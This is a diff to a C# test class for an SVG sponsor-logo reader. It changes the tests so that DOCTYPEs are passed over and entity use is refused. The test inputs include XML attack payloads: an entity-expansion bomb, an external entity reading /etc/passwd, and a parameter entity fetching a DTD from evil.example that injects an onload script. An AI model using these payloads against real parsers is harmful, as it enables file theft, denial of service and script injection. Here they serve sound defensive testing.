@@ -49,11 +49,16 @@ public sealed class SvgLogoTests
     }
 
     [Theory]
-    [InlineData("<!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>", "begins with a DOCTYPE")]
-    [InlineData("<!DOCTYPE svg [<!ENTITY f SYSTEM \"file:///etc/passwd\">]>", "begins with a DOCTYPE")]
-    [InlineData("<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">", "begins with a DOCTYPE")]
-    public void Read_WithADoctype_IsRefused(string doctype, string sentence) =>
-        Assert.Contains(sentence, Assert.Throws<RuleException>(() => SponsorLogo.Read(Bytes($"{doctype}{Open}</svg>"))).Message, StringComparison.Ordinal);
+    [InlineData("<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">")]
+    [InlineData("<!DOCTYPE svg [<!ENTITY % all SYSTEM \"https://evil.example/all.dtd\"> %all; <!ATTLIST svg onload CDATA \"alert(1)\">]>")]
+    public void Read_WithADoctype_PassesOverIt(string doctype) =>
+        Assert.Equal("<svg viewBox=\"0 0 200 100\" xmlns=\"http://www.w3.org/2000/svg\"><rect x=\"1\" /></svg>", Text(SponsorLogo.Read(Bytes($"{doctype}{Open}<rect x=\"1\"/></svg>"))));
+
+    [Theory]
+    [InlineData("<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">", "b")]
+    [InlineData("<!ENTITY f SYSTEM \"file:///etc/passwd\">", "f")]
+    public void Read_WithAnEntity_IsRefused(string entities, string used) => Assert.Contains(
+        "uses an entity", Assert.Throws<RuleException>(() => SponsorLogo.Read(Bytes($"<!DOCTYPE svg [{entities}]>{Open}<text>&{used};</text></svg>"))).Message, StringComparison.Ordinal);
 
     [Theory]
     [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect/></svg>", "does not say how large it is")]
